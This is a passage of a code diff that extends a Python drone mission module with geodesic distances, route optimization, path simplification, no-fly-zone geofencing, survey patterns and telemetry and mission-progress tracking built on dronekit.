@@ -12,127 +12,2228 @@ Drone commit:
 b83d2275f
 """
 
-import math, os, time
+import asyncio, contextlib, heapq, importlib, inspect, json, math, os, struct, threading, time
+from concurrent import futures
 
-# Enable color in console
-os.system("color")
+def enable_color():
+    """
+    Enable color in console (Windows consoles need it)
+    """
+    if os.name == "nt": os.system("color")
+
+def install_package(package_name, version=None, *deps, bypass=False):
+    """
+    Ask for a missing package installation
+    :param package_name: Package to install
+    :param version: Package version to install
+    :param deps: Package dependencies
+    :param bypass: Enable bypassing
+    """
+    if True if bypass else (input(f"Le module python '{package_name}{f' ({version})' if version else ''}' n'est actuellement pas installé sur cette version de python, voulez vous l'installer ?\n Y pour continuer: ").lower() in ["y", "o", "yes", "oui", "1"]):
+        # Install
+        if len(deps):
+            for dep in deps:
+                if len(dep) == 1:
+                    install_package(dep[0], bypass=True)
+                elif len(dep) >= 2:
+                    install_package(dep[0], dep[1], bypass=True)
+        print(f"Installing {package_name}{f' ({version})' if version else ''}")
+        import sys
+        import os
+        python_path = sys.executable
+        os.system(f'"{python_path}" -m pip install {package_name}{f"=={version}" if version else ""}')
+        # if os.path.exists(python_path.replace("python.exe", "Scripts\\pip.exe")):
+        #     pip = python_path.replace("python.exe", "\\Scripts\\pip.exe")
+        #     os.system(f'"{pip}" install {package_name}{f"=={version}" if version else ""}')
+        # elif os.path.exists(python_path.replace("python.exe", "pip.exe")):
+        #     pip = python_path.replace("python.exe", "\\Scripts\\pip.exe")
+        #     os.system(f'"{pip}" install {package_name}{f"=={version}" if version else ""}')
+        # else:
+        #     print("L'utilitaire pip est introuvable, l'installation devra être réalisée manuellement")
+        #     exit(0)
+
+    else:
+        # Abandon de l'installation
+        print("Opération abandonnée. Le programme n'a pas pu continuer")
+        exit(0)
+
+class _LazyModule:
+    """
+    Module imported on first attribute access, installation is asked if missing
+    Once imported, the module replaces this object in the wrapper globals
+    """
+    def __init__(self, name, alias, *install):
+        """
+        :param name: Module name
+        :param alias: Global name used in this file
+        :param install: `install_package` arguments (package, version, deps...)
+        """
+        self._name = name
+        self._alias = alias
+        self._install = install
+        self._module = None
+
+    def _load(self):
+        if self._module is None:
+            try:
+                self._module = importlib.import_module(self._name)
+            except ModuleNotFoundError:
+                install_package(*self._install)
+                self._module = importlib.import_module(self._name)
+            globals()[self._alias] = self._module
+        return self._module
+
+    def __getattr__(self, item):
+        return getattr(self._load(), item)
+
+    def __repr__(self):
+        return f"<lazy module '{self._name}'>"
+
+# Heavy modules are only imported when used, importing this file has no side effect
+# dronekit_sitl: Python to Mission planner management
+dk_s = _LazyModule("dronekit_sitl", "dk_s", "dronekit_sitl")
+# dronekit: Python to Mission planner management
+dk = _LazyModule("dronekit", "dk", "dronekit")
+# pymavlink (2.4.8): Python to Mission planner TCP communication
+mavutil = _LazyModule("pymavlink.mavutil", "mavutil", "pymavlink", "2.4.8", ["future", "0.18.3"], ["lxml", "4.9.3"])
+# numpy: Vectorized computations (distances, route optimization, missions)
+np = _LazyModule("numpy", "np", "numpy")
+
+# Distances
+# Mean earth radius in metres
+EARTH_RADIUS = 6371008.8
+# Distance computation mode used when none is specified:
+# - "haversine": great circle distance, accurate at any range
+# - "equirectangular": faster, accurate for legs up to a few tens of kilometres
+# - "flat": ArduPilot test code approximation (degrees scaled to metres), kept for comparison
+DISTANCE_MODE = "haversine"
+
+def _geo_distance(lat1, lon1, lat2, lon2, mode=None):
+    """
+    Return ground distances in metres between points given in degrees
+    Arguments are broadcast against each other like numpy arrays
+    :param mode: Distance mode (`DISTANCE_MODE` if not specified)
+    :return: Distances as a numpy array
+    """
+    mode = mode or DISTANCE_MODE
+    if mode == "flat":
+        return np.hypot(lat2 - lat1, lon2 - lon1) * 1.113195e5
+    lat1, lon1, lat2, lon2 = np.radians(lat1), np.radians(lon1), np.radians(lat2), np.radians(lon2)
+    if mode == "equirectangular":
+        x = (lon2 - lon1) * np.cos((lat1 + lat2) / 2)
+        return np.hypot(x, lat2 - lat1) * EARTH_RADIUS
+    if mode == "haversine":
+        h = np.sin((lat2 - lat1) / 2) ** 2 + np.cos(lat1) * np.cos(lat2) * np.sin((lon2 - lon1) / 2) ** 2
+        return 2 * EARTH_RADIUS * np.arcsin(np.sqrt(np.clip(h, 0, 1)))
+    raise ValueError(f"Unknown distance mode '{mode}'")
+
+def _as_coords(points):
+    """
+    Return points as a Nx2 numpy array of [lat, lon]
+    :param points: Points as a list<[lat, lon, ...]> or array
+    """
+    coords = np.asarray(points, dtype=float)
+    if coords.size == 0:
+        return np.empty((0, 2))
+    return coords.reshape(-1, coords.shape[-1])[:, :2]
+
+def distances(origin, points, mode=None):
+    """
+    Return distances in metres from one point to many
+    :param origin: Point [lat, lon, ...]
+    :param points: Points as a list<[lat, lon, ...]> or array
+    :param mode: Distance mode (`DISTANCE_MODE` if not specified)
+    :return: Distances as a numpy array of N values
+    """
+    coords = _as_coords(points)
+    return _geo_distance(origin[0], origin[1], coords[:, 0], coords[:, 1], mode)
+
+def distance_matrix(points, mode=None):
+    """
+    Return the matrix of distances in metres between every pair of points
+    :param points: Points as a list<[lat, lon, ...]> or array
+    :param mode: Distance mode (`DISTANCE_MODE` if not specified)
+    :return: NxN numpy array
+    """
+    coords = _as_coords(points)
+    return _geo_distance(coords[:, None, 0], coords[:, None, 1], coords[None, :, 0], coords[None, :, 1], mode)
+
+def path_length(points, cumulative=False, mode=None):
+    """
+    Return the length in metres of the path going through the points in order
+    :param points: Points as a list<[lat, lon, ...]> or array
+    :param cumulative: Return the length travelled at each point instead of the total
+    :param mode: Distance mode (`DISTANCE_MODE` if not specified)
+    :return: Total length, or numpy array of N values starting with 0 if cumulative
+    """
+    coords = _as_coords(points)
+    legs = _geo_distance(coords[:-1, 0], coords[:-1, 1], coords[1:, 0], coords[1:, 1], mode)
+    if cumulative:
+        return np.concatenate(([0.], np.cumsum(legs)))[:len(coords)]
+    return float(legs.sum())
+
+# Route optimization
+def _route_length(dist, tour):
+    """
+    Return the length of a tour
+    :param dist: Distance matrix
+    :param tour: Visiting order (indexes in the distance matrix)
+    :return: Length in metres
+    """
+    return float(dist[tour[:-1], tour[1:]].sum())
+
+def _nearest_neighbour_tour(dist):
+    """
+    Build a first tour starting and ending on point 0, always going to the nearest unvisited point
+    :param dist: Distance matrix
+    :return: Tour as numpy array [0, ..., 0]
+    """
+    visited = np.zeros(len(dist), dtype=bool)
+    visited[0] = True
+    tour = [0]
+    for _ in range(len(dist) - 1):
+        current = int(np.where(visited, np.inf, dist[tour[-1]]).argmin())
+        visited[current] = True
+        tour.append(current)
+    tour.append(0)
+    return np.array(tour)
+
+def _two_opt(dist, tour):
+    """
+    Improve a tour by reversing segments while it shortens it (2-opt)
+    Every candidate reversal from a given position is evaluated at once
+    :param dist: Distance matrix
+    :param tour: Tour to improve, first and last points are kept in place
+    :return: True if the tour has been improved
+    """
+    improved = False
+    n = len(tour)
+    for i in range(1, n - 2):
+        a, b = tour[i - 1], tour[i]
+        c, d = tour[i + 1:n - 1], tour[i + 2:n]
+        gain = dist[a, b] + dist[c, d] - dist[a, c] - dist[b, d]
+        j = int(gain.argmax())
+        if gain[j] > 1e-9:
+            # Reverse tour[i] .. tour[i + 1 + j]
+            tour[i:i + j + 2] = tour[i:i + j + 2][::-1].copy()
+            improved = True
+    return improved
+
+def _or_opt(dist, tour, max_segment=3):
+    """
+    Improve a tour by moving segments of 1 to `max_segment` points elsewhere, reversed or not (Or-opt)
+    :param dist: Distance matrix
+    :param tour: Tour to improve, first and last points are kept in place
+    :param max_segment: Longest segment to move
+    :return: (Improved, tour)
+    """
+    improved = False
+    for k in range(1, max_segment + 1):
+        i = 1
+        while i + k < len(tour):
+            prev, first, last, nxt = tour[i - 1], tour[i], tour[i + k - 1], tour[i + k]
+            removal_gain = dist[prev, first] + dist[last, nxt] - dist[prev, nxt]
+            rest = np.concatenate((tour[:i], tour[i + k:]))
+            u, v = rest[:-1], rest[1:]
+            forward = dist[u, first] + dist[last, v] - dist[u, v]
+            backward = dist[u, last] + dist[first, v] - dist[u, v]
+            # Edge the segment has been taken from
+            forward[i - 1] = backward[i - 1] = np.inf
+            f, b = int(forward.argmin()), int(backward.argmin())
+            edge, cost, segment = (f, forward[f], tour[i:i + k]) if forward[f] <= backward[b] else (b, backward[b], tour[i:i + k][::-1])
+            if removal_gain - cost > 1e-9:
+                tour = np.concatenate((rest[:edge + 1], segment, rest[edge + 1:]))
+                improved = True
+            else:
+                i += 1
+    return improved, tour
+
+def optimize_route(points, home):
+    """
+    Reorder points to shorten the path home -> points -> home
+    Nearest neighbour tour improved with 2-opt and Or-opt moves
+    :param points: Points to visit as a list<[lat, lon, ...]>
+    :param home: Start and end point [lat, lon]
+    :return: {order: new order as indexes in `points`, before: original length (m), after: optimized length (m)}
+    """
+    dist = distance_matrix([home, *points])
+    original = np.array([0, *range(1, len(points) + 1), 0])
+    before = _route_length(dist, original)
+    if len(points) < 3:
+        return {"order": list(range(len(points))), "before": before, "after": before}
+    tour = _nearest_neighbour_tour(dist)
+    improved = True
+    while improved:
+        improved = _two_opt(dist, tour)
+        or_improved, tour = _or_opt(dist, tour)
+        improved = improved or or_improved
+    after = _route_length(dist, tour)
+    if after >= before:
+        # Operator order was already as good
+        return {"order": list(range(len(points))), "before": before, "after": before}
+    return {"order": [int(x) - 1 for x in tour[1:-1]], "before": before, "after": after}
+
+# Path simplification
+# Simplification methods:
+# - "douglas-peucker": keeps the farthest point of each leg until every dropped point is within tolerance
+# - "visvalingam": drops first the points whose triangle with their neighbours has the smallest area
+SIMPLIFY_METHODS = ("douglas-peucker", "visvalingam")
+
+def _local_metres(points):
+    """
+    Project points on a local plane in metres (equirectangular around their mean latitude)
+    :param points: Points as a Nx2 or Nx3 array of [lat, lon, ?alt]
+    :return: Nx3 array of [x, y, alt]
+    """
+    lat0 = np.radians(points[:, 0].mean())
+    xyz = np.zeros((len(points), 3))
+    xyz[:, 0] = np.radians(points[:, 1] - points[0, 1]) * np.cos(lat0) * EARTH_RADIUS
+    xyz[:, 1] = np.radians(points[:, 0] - points[0, 0]) * EARTH_RADIUS
+    if points.shape[1] > 2: xyz[:, 2] = points[:, 2]
+    return xyz
+
+def _segment_distances(xyz, a, b):
+    """
+    Return distances from points to the segments [a, b]
+    :param xyz: Points as a Nx3 array
+    :param a: Segments starts, 3 values or Nx3 array
+    :param b: Segments ends, 3 values or Nx3 array
+    """
+    d = b - a
+    length = np.einsum("...i,...i", d, d)
+    t = np.clip(np.einsum("...i,...i", xyz - a, d) / np.where(length > 0, length, 1), 0, 1)
+    return np.linalg.norm(xyz - (a + t[..., None] * d), axis=-1)
+
+def _douglas_peucker(xyz, tolerance):
+    """
+    Return kept points mask (Douglas-Peucker)
+    """
+    keep = np.zeros(len(xyz), dtype=bool)
+    keep[[0, -1]] = True
+    legs = [(0, len(xyz) - 1)]
+    while legs:
+        start, end = legs.pop()
+        if end - start < 2:
+            continue
+        deviation = _segment_distances(xyz[start + 1:end], xyz[start], xyz[end])
+        farthest = int(deviation.argmax())
+        if deviation[farthest] > tolerance:
+            farthest += start + 1
+            keep[farthest] = True
+            legs += [(start, farthest), (farthest, end)]
+    return keep
+
+def _visvalingam(xyz, tolerance):
+    """
+    Return kept points mask (Visvalingam-Whyatt)
+    Points are dropped by increasing effective area (triangle with their neighbours) while they are within
+    `tolerance` of the line joining their neighbours, only the neighbours of a dropped point are evaluated again
+    """
+    points = xyz.tolist()
+    count = len(points)
+    previous = list(range(-1, count - 1))
+    following = list(range(1, count + 1))
+    # Heap entries of a point are outdated once its neighbours changed
+    version = [0] * count
+    keep = np.ones(count, dtype=bool)
+
+    def measure(i):
+        """
+        Return triangle area and distance to the line joining the neighbours of point i
+        """
+        a, b, c = points[previous[i]], points[i], points[following[i]]
+        ab = [b[0] - a[0], b[1] - a[1], b[2] - a[2]]
+        ac = [c[0] - a[0], c[1] - a[1], c[2] - a[2]]
+        cross = [ab[1] * ac[2] - ab[2] * ac[1], ab[2] * ac[0] - ab[0] * ac[2], ab[0] * ac[1] - ab[1] * ac[0]]
+        length = ac[0] * ac[0] + ac[1] * ac[1] + ac[2] * ac[2]
+        t = min(max((ab[0] * ac[0] + ab[1] * ac[1] + ab[2] * ac[2]) / length, 0), 1) if length else 0
+        return .5 * math.sqrt(cross[0] ** 2 + cross[1] ** 2 + cross[2] ** 2), math.dist(ab, [t * ac[0], t * ac[1], t * ac[2]])
+
+    heap = [(*measure(i), i, 0) for i in range(1, count - 1)]
+    heapq.heapify(heap)
+    while heap:
+        area, distance, i, v = heapq.heappop(heap)
+        # Too far: kept unless one of its neighbours is dropped
+        if v != version[i] or distance > tolerance:
+            continue
+        keep[i] = False
+        p, f = previous[i], following[i]
+        following[p], previous[f] = f, p
+        for j in (p, f):
+            if 0 < j < count - 1:
+                version[j] += 1
+                new_area, new_distance = measure(j)
+                # Effective area, never below the dropped point one so points go in area order
+                heapq.heappush(heap, (max(new_area, area), new_distance, j, version[j]))
+    return keep
+
+def simplify_path(points, tolerance, method="douglas-peucker"):
+    """
+    Drop points of a dense path (ex: GPS track) that are nearly aligned with their neighbours
+    First and last points are always kept
+    :param points: Points as a list<[lat, lon, ?alt]> or Nx2/Nx3 array, altitudes are taken into account
+    :param tolerance: Allowed distance in metres between a dropped point and the simplified path
+    (strict with "douglas-peucker", approximate with "visvalingam": check `max_deviation`)
+    :param method: "douglas-peucker" or "visvalingam"
+    :return: {indexes: kept points indexes in `points`, dropped: number of dropped points, max_deviation: largest distance (m) between a point and the simplified path}
+    """
+    points = np.asarray(points, dtype=float)
+    points = points.reshape(-1, points.shape[-1] if points.size else 2)
+    if method not in SIMPLIFY_METHODS:
+        raise ValueError(f"Unknown simplification method '{method}'")
+    if len(points) < 3:
+        return {"indexes": np.arange(len(points)), "dropped": 0, "max_deviation": 0.}
+    xyz = _local_metres(points)
+    indexes = np.flatnonzero((_douglas_peucker if method == "douglas-peucker" else _visvalingam)(xyz, tolerance))
+    # Distance of every point to the simplified leg it belongs to
+    leg = np.clip(np.searchsorted(indexes, np.arange(len(points)), "right") - 1, 0, len(indexes) - 2)
+    deviation = _segment_distances(xyz, xyz[indexes[leg]], xyz[indexes[leg + 1]])
+    return {"indexes": indexes, "dropped": len(points) - len(indexes), "max_deviation": float(deviation.max())}
+
+# Geofence
+def _segments_cross(a, b, c, d):
+    """
+    Return which segments [a, b] touch which segments [c, d]
+    :param a: Segments starts as a Kx2 array
+    :param b: Segments ends as a Kx2 array
+    :param c: Other segments starts as a Mx2 array
+    :param d: Other segments ends as a Mx2 array
+    :return: KxM boolean array
+    """
+    a, b, c, d = a[:, None], b[:, None], c[None], d[None]
+
+    def orientation(p, q, r):
+        return (q[..., 0] - p[..., 0]) * (r[..., 1] - p[..., 1]) - (q[..., 1] - p[..., 1]) * (r[..., 0] - p[..., 0])
+    straddle = (orientation(a, b, c) * orientation(a, b, d) <= 0) & (orientation(c, d, a) * orientation(c, d, b) <= 0)
+    # Bounding boxes overlap, discards collinear segments that do not overlap
+    overlap = (np.minimum(a, b) <= np.maximum(c, d)).all(axis=-1) & (np.maximum(a, b) >= np.minimum(c, d)).all(axis=-1)
+    return straddle & overlap
+
+def _points_inside(points, c, d):
+    """
+    Return which points are inside the polygon made of edges [c, d] (even-odd rule, holes included)
+    :param points: Points as a Kx2 array
+    :param c: Edges starts as a Mx2 array
+    :param d: Edges ends as a Mx2 array
+    :return: K booleans
+    """
+    p = points[:, None]
+    spans = (c[None, :, 0] > p[..., 0]) != (d[None, :, 0] > p[..., 0])
+    with np.errstate(divide="ignore", invalid="ignore"):
+        crossing = c[None, :, 1] + (p[..., 0] - c[None, :, 0]) * (d[None, :, 1] - c[None, :, 1]) / (d[None, :, 0] - c[None, :, 0])
+    return (spans & (p[..., 1] < crossing)).sum(axis=1) % 2 == 1
+
+class Geofence:
+    """
+    No-fly zones as polygons
+    Mission legs are checked against every zone: a leg is rejected if it crosses or touches a zone border,
+    or starts or ends inside a zone. Zones are prefiltered by bounding box
+    """
+    def __init__(self, zones=None):
+        """
+        :param zones: Zones as list<(name, rings)>, rings as list<list<[lat, lon]>> (outer border then holes)
+        """
+        self.names = []
+        self._rings = []
+        self._compiled = None
+        for name, rings in zones or []:
+            self.add(rings, name)
+
+    def __len__(self):
+        return len(self.names)
+
+    def add(self, rings, name=None):
+        """
+        Add a zone
+        :param rings: Borders as list<list<[lat, lon]>>, outer border then holes
+        :param name: Zone name ("Zone N" if not specified)
+        """
+        arrays = []
+        for ring in rings:
+            ring = _as_coords(ring)
+            # Closing point is implicit
+            if len(ring) > 1 and (ring[0] == ring[-1]).all():
+                ring = ring[:-1]
+            arrays.append(ring)
+        self.names.append(name or f"Zone {len(self.names) + 1}")
+        self._rings.append(arrays)
+        self._compiled = None
+
+    @classmethod
+    def from_geojson(cls, source):
+        """
+        Load zones from GeoJSON Polygon and MultiPolygon geometries (Feature, FeatureCollection or bare geometry)
+        Zones are named from the features "name" property
+        :param source: GeoJSON file path or parsed GeoJSON
+        """
+        if isinstance(source, str):
+            with open(source, "r") as f:
+                source = json.load(f)
+        features = source["features"] if source.get("type") == "FeatureCollection" else [source]
+        fence = cls()
+        for feature in features:
+            geometry = feature.get("geometry") or feature
+            name = (feature.get("properties") or {}).get("name")
+            if geometry["type"] == "Polygon":
+                polygons = [geometry["coordinates"]]
+            elif geometry["type"] == "MultiPolygon":
+                polygons = geometry["coordinates"]
+            else:
+                continue
+            for polygon in polygons:
+                # GeoJSON positions are [lon, lat, ?alt]
+                fence.add([[(position[1], position[0]) for position in ring] for ring in polygon], name)
+        return fence
+
+    def _compile(self):
+        """
+        Gather zones edges in arrays: (edges starts, edges ends, edge ranges by zone, zone bounding boxes)
+        """
+        if self._compiled is None:
+            rings = [ring for zone in self._rings for ring in zone]
+            starts = np.concatenate(rings) if rings else np.empty((0, 2))
+            ends = np.concatenate([np.roll(ring, -1, axis=0) for ring in rings]) if rings else np.empty((0, 2))
+            sizes = np.array([sum(len(ring) for ring in zone) for zone in self._rings], dtype=int)
+            bounds = np.concatenate(([0], np.cumsum(sizes)))
+            boxes = np.array([[*zone[0].min(axis=0), *zone[0].max(axis=0)] for zone in self._rings]).reshape(-1, 4)
+            self._compiled = (starts, ends, bounds, boxes)
+        return self._compiled
+
+    def check(self, points):
+        """
+        Return the legs of a path entering a zone
+        :param points: Path as a list<[lat, lon, ...]> or array, leg i goes from point i to point i + 1
+        :return: Violations as list<{leg, zone, name}>, sorted by leg
+        """
+        coords = _as_coords(points)
+        if len(coords) < 2 or not len(self):
+            return []
+        starts, ends, bounds, boxes = self._compile()
+        a, b = coords[:-1], coords[1:]
+        low, high = np.minimum(a, b), np.maximum(a, b)
+        # Zones near the path, then legs x zones bounding boxes overlap
+        zones = np.flatnonzero((boxes[:, :2] <= high.max(axis=0)).all(axis=1) & (boxes[:, 2:] >= low.min(axis=0)).all(axis=1))
+        boxes = boxes[zones]
+        candidates = (low[:, None, 0] <= boxes[None, :, 2]) & (low[:, None, 1] <= boxes[None, :, 3]) \
+            & (high[:, None, 0] >= boxes[None, :, 0]) & (high[:, None, 1] >= boxes[None, :, 1])
+        violations = []
+        for column in np.flatnonzero(candidates.any(axis=0)).tolist():
+            zone = int(zones[column])
+            legs = np.flatnonzero(candidates[:, column])
+            c, d = starts[bounds[zone]:bounds[zone + 1]], ends[bounds[zone]:bounds[zone + 1]]
+            hit = _segments_cross(a[legs], b[legs], c, d).any(axis=1) | _points_inside(a[legs], c, d) | _points_inside(b[legs], c, d)
+            violations += [{"leg": leg, "zone": zone, "name": self.names[zone]} for leg in legs[hit].tolist()]
+        return sorted(violations, key=lambda violation: (violation["leg"], violation["zone"]))
+
+# Survey
+def survey_pattern(polygon, spacing, heading=0, step=None):
+    """
+    Return lawnmower (boustrophedon) coverage waypoints of an area
+    Parallel lines `spacing` metres apart are clipped by the polygon, then flown alternately in both directions
+    :param polygon: Area border as a list<[lat, lon]> or Nx2 array (concave areas give several segments per line)
+    :param spacing: Distance in metres between two lines
+    :param heading: Lines direction in degrees from north, clockwise
+    :param step: Distance in metres between two waypoints along lines (lines ends only if not specified)
+    :return: Waypoints as a Nx2 array of [lat, lon], at least one line even if the area is narrower than `spacing`
+    """
+    coords = _as_coords(polygon)
+    if len(coords) > 1 and (coords[0] == coords[-1]).all():
+        coords = coords[:-1]
+    if len(coords) < 3:
+        raise ValueError("Survey area must be a polygon with a width across lines")
+    # Local frame in metres: x east, y north
+    lat0, lon0 = np.radians(coords[:, 0].mean()), coords[0, 1]
+    scale = np.radians(1) * EARTH_RADIUS
+    east, north = (coords[:, 1] - lon0) * scale * np.cos(lat0), (coords[:, 0] - coords[0, 0]) * scale
+    # Rotated frame: u along lines, v across lines
+    h = np.radians(heading)
+    u, v = east * np.sin(h) + north * np.cos(h), east * np.cos(h) - north * np.sin(h)
+    if v.max() <= v.min():
+        raise ValueError("Survey area must be a polygon with a width across lines")
+    lines = np.arange(v.min() + spacing / 2, v.max(), spacing)
+    if not len(lines):
+        # Area narrower than spacing: one line through its middle
+        lines = np.array([v.min() + (v.max() - v.min()) / 2])
+    # Lines x edges intersections, half-open edges so that a vertex is counted once
+    c_u, c_v, d_u, d_v = u[None], v[None], np.roll(u, -1)[None], np.roll(v, -1)[None]
+    y = lines[:, None]
+    crosses = (c_v <= y) != (d_v <= y)
+    with np.errstate(divide="ignore", invalid="ignore"):
+        x = np.where(crosses, c_u + (y - c_v) * (d_u - c_u) / (d_v - c_v), np.nan)
+    x = np.sort(x, axis=1)[:, :crosses.sum(axis=1).max()]
+    # Entry/exit pairs along each line, reversed every other line
+    starts, ends = x[:, 0::2], x[:, 1::2]
+    reverse = np.arange(len(lines)) % 2 == 1
+    starts[reverse], ends[reverse] = -np.sort(-ends[reverse], axis=1), -np.sort(-starts[reverse], axis=1)
+    valid = ~np.isnan(starts)
+    line_v = np.broadcast_to(lines[:, None], starts.shape)[valid]
+    starts, ends = starts[valid], ends[valid]
+    if step:
+        # Points every `step` metres along each segment, segment ends included
+        counts = np.maximum(np.ceil(np.abs(ends - starts) / step).astype(int), 1) + 1
+        segment = np.repeat(np.arange(len(starts)), counts)
+        position = np.arange(counts.sum()) - np.repeat(np.cumsum(counts) - counts, counts)
+        along = starts[segment] + position / (counts[segment] - 1) * (ends - starts)[segment]
+        across = line_v[segment]
+    else:
+        along = np.column_stack((starts, ends)).ravel()
+        across = np.repeat(line_v, 2)
+    # Back to latitudes and longitudes
+    east, north = along * np.sin(h) + across * np.cos(h), along * np.cos(h) - across * np.sin(h)
+    return np.column_stack((coords[0, 0] + north / scale, lon0 + east / (scale * np.cos(lat0))))
+
+# Telemetry events
+# Messages telling the mission current item and reached items
+MISSION_PROGRESS_MESSAGES = ("MISSION_CURRENT", "MISSION_ITEM_REACHED")
+
+class VehicleEvents:
+    """
+    Wake waiting threads as soon as the vehicle reports a new state
+    Listens to every dronekit attribute update and to mission progress messages (MISSION_CURRENT, MISSION_ITEM_REACHED)
+    """
+    def __init__(self, vehicle):
+        """
+        Start listening to a vehicle
+        :param vehicle: Connected dronekit vehicle
+        """
+        self.vehicle = vehicle
+        self._condition = threading.Condition()
+        self._callbacks = []
+        self.vehicle.add_attribute_listener("*", self._notify)
+        for name in MISSION_PROGRESS_MESSAGES: self.vehicle.add_message_listener(name, self._notify)
+
+    def _notify(self, *_):
+        """
+        Dronekit callback, wake every waiting thread and call registered callbacks
+        """
+        with self._condition:
+            self._condition.notify_all()
+        for callback in self._callbacks:
+            callback()
+
+    def on(self, callback):
+        """
+        Register a callback called on each vehicle update, from the vehicle thread
+        Kept when listening to another vehicle (`rebind`)
+        :param callback: Function without arguments
+        """
+        self._callbacks.append(callback)
+
+    def off(self, callback):
+        """
+        Remove a callback registered with `on`
+        """
+        self._callbacks.remove(callback)
+
+    def wait_until(self, predicate, timeout=None, recheck=1):
+        """
+        Block until `predicate()` is True
+        Predicate is evaluated on each vehicle update, and at least every `recheck` seconds
+        :param predicate: Function without arguments
+        :param timeout: Maximum waiting time in seconds (None to wait forever)
+        :param recheck: Maximum time in seconds between two evaluations
+        :return: True if predicate is satisfied, False if timeout expired
+        """
+        end = None if timeout is None else time.monotonic() + timeout
+        with self._condition:
+            while not predicate():
+                remaining = recheck if end is None else min(recheck, end - time.monotonic())
+                if remaining <= 0:
+                    return False
+                self._condition.wait(remaining)
+        return True
+
+    def wait_armed(self, armed=True, timeout=None):
+        """
+        Block until vehicle is armed (or disarmed)
+        :return: True if reached, False if timeout expired
+        """
+        return self.wait_until(lambda: self.vehicle.armed == armed, timeout)
+
+    def wait_mode(self, mode, timeout=None):
+        """
+        Block until vehicle flies in `mode` ("GUIDED", "AUTO", "RTL", ...)
+        :return: True if reached, False if timeout expired
+        """
+        return self.wait_until(lambda: self.vehicle.mode.name == mode, timeout)
+
+    def wait_altitude(self, alt, ratio=.95, timeout=None):
+        """
+        Block until vehicle relative altitude is above `alt * ratio`
+        :return: True if reached, False if timeout expired
+        """
+        return self.wait_until(lambda: (self.vehicle.location.global_relative_frame.alt or 0) >= alt * ratio, timeout)
+
+    def wait_waypoint_change(self, current=None, timeout=None):
+        """
+        Block until mission waypoint index changes
+        :param current: Index to leave (actual one if not specified)
+        :return: True if changed, False if timeout expired
+        """
+        if current is None: current = self.vehicle.commands.next
+        return self.wait_until(lambda: self.vehicle.commands.next != current, timeout)
+
+    def rebind(self, vehicle):
+        """
+        Listen to another vehicle (after a reconnection), waiting threads keep waiting
+        :param vehicle: Connected dronekit vehicle
+        """
+        try:
+            self.vehicle.remove_attribute_listener("*", self._notify)
+            for name in MISSION_PROGRESS_MESSAGES: self.vehicle.remove_message_listener(name, self._notify)
+        except Exception:
+            pass
+        self.vehicle = vehicle
+        self.vehicle.add_attribute_listener("*", self._notify)
+        for name in MISSION_PROGRESS_MESSAGES: self.vehicle.add_message_listener(name, self._notify)
+        self._notify()
+
+    def close(self):
+        """
+        Stop listening to the vehicle
+        """
+        self.vehicle.remove_attribute_listener("*", self._notify)
+        for name in MISSION_PROGRESS_MESSAGES: self.vehicle.remove_message_listener(name, self._notify)
+        self._notify()
+
+# Mission tracking
+class MissionTracker:
+    """
+    Follow mission progress from MISSION_CURRENT and MISSION_ITEM_REACHED messages, as they arrive
+    Every reached item is logged with its time. Items skipped between two reached messages (lost message, link loss,
+    current item changed by hand) are logged too, flagged as inferred, so no transition is lost whatever the polling rate.
+    Older autopilots (ArduCopter 3.3) only announce reached items as "Reached Command #N" STATUSTEXT
+    After `reset`, messages are ignored until MISSION_CURRENT reports the start of the new mission (sequence 0 or 1):
+    the previous mission ones can still arrive meanwhile
+    """
+    def __init__(self, vehicle, count=0):
+        """
+        Start listening to a vehicle
+        :param vehicle: Connected dronekit vehicle
+        :param count: Number of mission items, the mission is finished once the last one is reached
+        """
+        self.vehicle = vehicle
+        self._lock = threading.Lock()
+        self._callbacks = {"current": [], "reached": [], "finished": []}
+        self.reset(count)
+        self._listen(True)
+
+    def _listen(self, enable):
+        listeners = [("MISSION_CURRENT", self._on_current), ("MISSION_ITEM_REACHED", self._on_reached), ("STATUSTEXT", self._on_text)]
+        for name, fn in listeners:
+            if enable:
+                self.vehicle.add_message_listener(name, fn)
+            else:
+                with contextlib.suppress(Exception): self.vehicle.remove_message_listener(name, fn)
+
+    def reset(self, count):
+        """
+        Forget progress, for a new mission
+        :param count: Number of mission items
+        """
+        with self._lock:
+            self.count = count
+            self.current = 0
+            # Reached items as list<(sequence, time, inferred)>, mission item i is sequence i + 1
+            self.reached = []
+            self.finished_time = None
+            self._started = False
+
+    def on(self, event, callback):
+        """
+        Register a callback, called from the vehicle thread
+        :param event: "current" (sequence), "reached" (sequence, time, inferred) or "finished" (time)
+        :param callback: Function
+        """
+        self._callbacks[event].append(callback)
+
+    def off(self, event, callback):
+        """
+        Remove a callback registered with `on`
+        """
+        self._callbacks[event].remove(callback)
+
+    @property
+    def last_reached(self):
+        """
+        Return the sequence of the last reached item (0 if none)
+        """
+        return self.reached[-1][0] if self.reached else 0
+
+    @property
+    def finished(self):
+        """
+        Return True once the last mission item is reached
+        """
+        return self.finished_time is not None
+
+    def _mark(self, seq):
+        """
+        Log item `seq` as reached, and the skipped ones before it as inferred, must hold the lock
+        :return: Events to send as list<(event, args)>
+        """
+        now = time.time()
+        events = []
+        if not self._started or seq > self.count:
+            return events
+        for reached in range(self.last_reached + 1, seq + 1):
+            entry = (reached, now, reached < seq)
+            self.reached.append(entry)
+            events.append(("reached", entry))
+        if self.count and self.last_reached >= self.count and self.finished_time is None:
+            self.finished_time = now
+            events.append(("finished", (now,)))
+        return events
+
+    def _send(self, events):
+        for event, args in events:
+            for callback in self._callbacks[event]:
+                callback(*args)
+
+    def _on_current(self, _, name, message):
+        with self._lock:
+            # Previous mission messages, until the new one starts
+            if not self._started:
+                if message.seq > 1:
+                    return
+                self._started = True
+            if message.seq == self.current or message.seq > self.count:
+                return
+            self.current = message.seq
+        self._send([("current", (message.seq,))])
+
+    def _on_reached(self, _, name, message):
+        with self._lock:
+            events = self._mark(message.seq)
+        self._send(events)
+
+    def _on_text(self, _, name, message):
+        text = message.text if isinstance(message.text, str) else message.text.decode(errors="ignore")
+        if text.lower().startswith("reached command #"):
+            with self._lock:
+                events = self._mark(int(text[17:].split()[0]))
+            self._send(events)
+
+    def rebind(self, vehicle):
+        """
+        Listen to another vehicle (after a reconnection), progress is kept
+        """
+        self._listen(False)
+        self.vehicle = vehicle
+        self._listen(True)
+
+    def close(self):
+        """
+        Stop listening to the vehicle
+        """
+        self._listen(False)
+
+# Mission
+# One row per mission item, same fields as a MAVLink MISSION_ITEM
+# Usable as a numpy dtype without importing numpy
+MISSION_DTYPE = [
+    ("command", "u2"),
+    ("frame", "u1"),
